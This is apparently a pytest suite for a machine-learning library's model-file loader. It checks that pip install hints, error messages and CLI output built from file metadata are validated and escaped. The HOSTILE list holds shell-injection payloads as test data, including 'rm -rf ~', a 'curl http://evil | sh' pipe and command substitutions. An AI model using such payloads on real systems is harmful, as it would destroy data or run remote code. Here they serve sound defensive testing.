"""Strings from a file are data, never instructions.

The missing-component error suggests ``pip install`` only for a distribution name that matches
the PEP 508 name grammar, pinned only to a valid PEP 440 version; everything a message or the
CLI prints from a file has its control characters escaped (hypothesis generates hostile
distribution names, versions, component names and HDF5 link names); a plugin hidden by
``REGNET_DISABLE_PLUGIN_AUTOLOAD`` or broken by a clash is reported as such, not as something to
install; a file missing several components names them all in one error; only ``regnet.io``
opens model files with h5py. Counts are recorded with ``fuzz_cases``.
"""

import ast
import json
import re
from pathlib import Path

import h5py
import numpy as np
import pytest
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st
from packaging.version import InvalidVersion, Version

import regnet
from regnet import PluginError, UnknownComponentError, WeightsMismatchError, cli, io, registry
from regnet.testing import plugin_distribution

ROOT = Path(__file__).parents[2]
SPEC = {"input_shape": [3], "layers": [{"type": "Dense", "name": "out", "units": 2}]}
PEP508_NAME = re.compile(r"[A-Za-z0-9]([A-Za-z0-9._-]*[A-Za-z0-9])?")
LAYER = """
import numpy as np
from regnet.layers import Layer, layer


@layer("{name}", register=False)
class {name}(Layer):
    def forward(self, x, training=False):
        return x * np.asarray(2, x.dtype)

    def backward(self, grad, *, need_input_grad=True):
        return grad * np.asarray(2, grad.dtype)
"""


def fuzz(n):
    return settings(
        max_examples=n,
        deadline=None,
        database=None,
        suppress_health_check=[HealthCheck.too_slow, HealthCheck.function_scoped_fixture],
    )


def reset_registries():
    for reg in registry.REGISTRIES.values():
        reg.reset_plugins()


def rewrite_json(path, where, value):
    """Replace a JSON document, with a valid checksum (the file stays 'intact')."""
    with h5py.File(path, "r+") as f:
        if where in f:
            del f[where]
        io._write_json(f, where, json.dumps(value))


@pytest.fixture
def saved(tmp_path):
    path = tmp_path / "model.h5"
    regnet.Model.from_spec(SPEC, seed=0).save(path)
    return path


def printable(message):
    return all(c.isprintable() for c in message)


# -- the install hint --------------------------------------------------------------------------------
HOSTILE = [
    "x'; rm -rf ~; echo '",
    "pkg==1.0' && curl http://evil | sh #",
    "$(touch /tmp/pwned)",
    "`id`",
    "\x1b]0;title\x07",
    "\x1b[2J\x1b[Hpip install safe",
    "--index-url=http://evil/simple",
    "-e git+https://evil/repo",
    "pkg @ https://evil/x.whl",
    "pkg[extra]",
    "pkg\nrm -rf /",
    "pkg\u202egnp.exe",
    "",
    " pkg",
    "pkg ",
    "-pkg",
    "pkg-",
]
VALID_NAMES = st.from_regex(r"\A[A-Za-z0-9]([A-Za-z0-9._-]{0,20}[A-Za-z0-9])?\Z")
VERSIONS = st.sampled_from(["1.0", "2.0.1rc1", "1!2.0.post3.dev4+local.7", "0.1.0", "10", "1.0-1"])
DISTRIBUTIONS = st.sampled_from(HOSTILE) | VALID_NAMES | st.text(max_size=20) | st.none() | st.integers()
ANY_VERSION = VERSIONS | st.sampled_from(HOSTILE) | st.text(max_size=12) | st.none() | st.just(3)


def load_error(path):
    with pytest.raises((UnknownComponentError, PluginError)) as info:
        regnet.load(path)
    return str(info.value)


def test_install_hint_is_built_only_from_valid_names_and_versions(saved, fuzz_cases):
    @fuzz(300)
    @given(
        name=st.text(min_size=1, max_size=20) | st.sampled_from(HOSTILE[:6]),
        dist=DISTRIBUTIONS,
        version=ANY_VERSION,
    )
    def check(name, dist, version):
        if name in registry.layers:
            return
        fuzz_cases("component entries")
        entry = {"kind": "layers", "name": name, "builtin": False, "distribution": dist, "version": version}
        rewrite_json(saved, "metadata/components", [entry])
        msg = load_error(saved)
        assert printable(msg), repr(msg)
        commands = re.findall(r"pip install '([^']*)'", msg)
        valid = isinstance(dist, str) and dist != "regnet" and PEP508_NAME.fullmatch(dist) is not None
        assert len(commands) == (1 if valid else 0), (dist, msg)
        if not commands:
            fuzz_cases("component entries, no command")
            return
        fuzz_cases("component entries, command")
        requirement = commands[0]
        got_name, _, pin = requirement.partition("==")
        assert got_name == dist and PEP508_NAME.fullmatch(got_name)
        try:
            expected_pin = str(Version(version)) if isinstance(version, str) else ""
        except InvalidVersion:
            expected_pin = ""
        assert pin == expected_pin, (version, requirement)

    check()


def test_every_missing_component_is_named_in_one_error(saved):
    entries = [
        {"kind": "layers", "name": "GoneA", "distribution": "pkg-a", "version": "1.0"},
        {"kind": "activations", "name": "gone_b", "distribution": "pkg-b", "version": "2.0"},
        {"kind": "losses", "name": "gone_c", "distribution": "pkg-c", "version": "3.0"},
        {"kind": "layers", "name": "Dense", "distribution": "regnet", "version": "0.1.0"},  # available
    ]
    rewrite_json(saved, "metadata/components", entries)
    msg = load_error(saved)
    assert "3 components are not available" in msg
    for part in ("GoneA", "gone_b", "gone_c", "regnet.layers", "regnet.activations", "regnet.losses"):
        assert part in msg, part
    for pin in ("pkg-a==1.0", "pkg-b==2.0", "pkg-c==3.0"):
        assert f"pip install '{pin}'" in msg


# -- installed but not usable ---------------------------------------------------------------------------
@pytest.fixture
def withheld_plugin_file(tmp_path):
    path = tmp_path / "plugin.h5"
    with plugin_distribution(
        "fake-withheld",
        {"layers": {"Withheld": "fake_withheld_mod:Withheld"}},
        modules={"fake_withheld_mod": LAYER.format(name="Withheld")},
        version="2.5",
    ):
        regnet.save(regnet.Model([{"type": "Withheld"}, {"type": "Dense", "units": 2}], (3,), seed=0), path)
        yield path


def test_a_plugin_hidden_by_safe_mode_is_reported_as_installed_with_how_to_allow_it(withheld_plugin_file, monkeypatch):
    monkeypatch.setenv("REGNET_DISABLE_PLUGIN_AUTOLOAD", "1")
    monkeypatch.delenv("REGNET_PLUGINS", raising=False)
    reset_registries()
    try:
        with pytest.raises(UnknownComponentError) as info:
            regnet.load(withheld_plugin_file)
        msg = str(info.value)
        assert "installed" in msg and "REGNET_DISABLE_PLUGIN_AUTOLOAD" in msg
        assert "REGNET_PLUGINS=fake-withheld" in msg
        assert "pip install" not in msg
        monkeypatch.setenv("REGNET_PLUGINS", "fake-withheld")
        reset_registries()
        assert regnet.load(withheld_plugin_file).nodes[0].layer.registered_name == "Withheld"
    finally:
        monkeypatch.undo()
        reset_registries()


def test_a_clash_is_reported_as_a_clash_not_as_something_to_install(tmp_path):
    path = tmp_path / "twin.h5"
    left = {"layers": {"Twin": "fake_left_mod:Twin"}}
    with plugin_distribution("fake-left", left, modules={"fake_left_mod": LAYER.format(name="Twin")}, version="1.0"):
        regnet.save(regnet.Model([{"type": "Twin"}, {"type": "Dense", "units": 2}], (3,), seed=0), path)
        with plugin_distribution(
            "fake-right",
            {"layers": {"Twin": "fake_right_mod:Twin"}},
            modules={"fake_right_mod": LAYER.format(name="Twin")},
            version="2.0",
        ):
            with pytest.raises(PluginError) as info:
                regnet.load(path)
    msg = str(info.value)
    assert "name clash" in msg and "fake-left 1.0" in msg and "fake-right 2.0" in msg
    assert "pip install" not in msg


# -- everything printed from a file is escaped ---------------------------------------------------------
LINK_NAMES = st.text(st.characters(exclude_characters="/\0"), min_size=1, max_size=16).filter(
    lambda s: s not in (".", "..")
) | st.sampled_from(["\x1b[2J", "a\x07b", "\u202eevil", "\x9bc", "line\nbreak"])


def test_names_from_the_file_are_escaped_in_weight_errors(saved, fuzz_cases):
    pristine = saved.read_bytes()

    @fuzz(150)
    @given(name=LINK_NAMES)
    def check(name):
        fuzz_cases("hdf5 link names")
        saved.write_bytes(pristine)
        with h5py.File(saved, "r+") as f:
            try:
                io._write_array(f["weights/out"], name, np.zeros(2, np.float32))
            except (ValueError, KeyError):
                return  # a name HDF5 itself will not store
        fuzz_cases("hdf5 link names, stored")
        with pytest.raises(WeightsMismatchError) as info:
            regnet.Model.from_spec(SPEC).load_weights(saved)
        assert printable(str(info.value)), repr(str(info.value))
        report = regnet.Model.from_spec(SPEC).load_weights(saved, strict=False)
        assert printable(str(report)) and report.skipped == [f"out/{name}"]

    check()


def test_link_targets_from_the_file_are_escaped(saved):
    with h5py.File(saved, "r+") as f:
        del f["weights/out/bias"]
        f["weights/out/bias"] = h5py.SoftLink("/\x1b]0;owned\x07")
    with pytest.raises(regnet.FileFormatError, match="soft link") as info:
        regnet.load(saved)
    assert printable(str(info.value))


def test_cli_summary_prints_file_strings_escaped(saved, capsys):
    hostile = "\x1b]0;owned\x07\x1b[2J"
    rewrite_json(saved, "metadata/user", {"command": f"train {hostile}", "data": hostile, "test_accuracy": hostile})
    rewrite_json(saved, "metadata/history", [{"epoch": 1, "loss": 0.5, hostile: hostile}])
    assert cli.main(["summary", str(saved)]) == 0
    out = capsys.readouterr().out
    assert "\x1b" not in out and "\x07" not in out
    assert "\\x1b" in out


def test_cli_errors_are_printed_escaped(saved, capsys):
    rewrite_json(saved, "metadata/components", [{"kind": "layers", "name": "Gone\x1b[2J", "distribution": "\x1b[31m"}])
    assert cli.main(["summary", str(saved)]) == 1
    err = capsys.readouterr().err
    assert "\x1b" not in err and "Gone" in err


def test_only_the_file_format_module_opens_hdf5():
    """Every read of a model file goes through regnet.io's checked reader."""
    users = []
    for path in [*ROOT.joinpath("regnet").rglob("*.py"), *ROOT.joinpath("plugins").rglob("*.py")]:
        if "tests" in path.parts or path.name.startswith("test_"):
            continue
        tree = ast.parse(path.read_text(encoding="utf-8"))
        for node in ast.walk(tree):
            names = []
            if isinstance(node, ast.Import):
                names = [a.name for a in node.names]
            elif isinstance(node, ast.ImportFrom) and node.module:
                names = [node.module]
            if any(n == "h5py" or n.startswith("h5py.") for n in names):
                users.append(path.relative_to(ROOT).as_posix())
    assert sorted(set(users)) == ["regnet/io.py"]


def test_metadata_reads_refuse_external_links(saved, tmp_path):
    other = tmp_path / "other.h5"
    with h5py.File(other, "w") as f:
        io._write_json(f, "user", json.dumps({"data": "/etc"}))
    with h5py.File(saved, "r+") as f:
        del f["metadata/user"]
        f["metadata/user"] = h5py.ExternalLink(str(other), "/user")
    with pytest.raises(regnet.FileFormatError, match="external link"):
        io.read_metadata(saved)
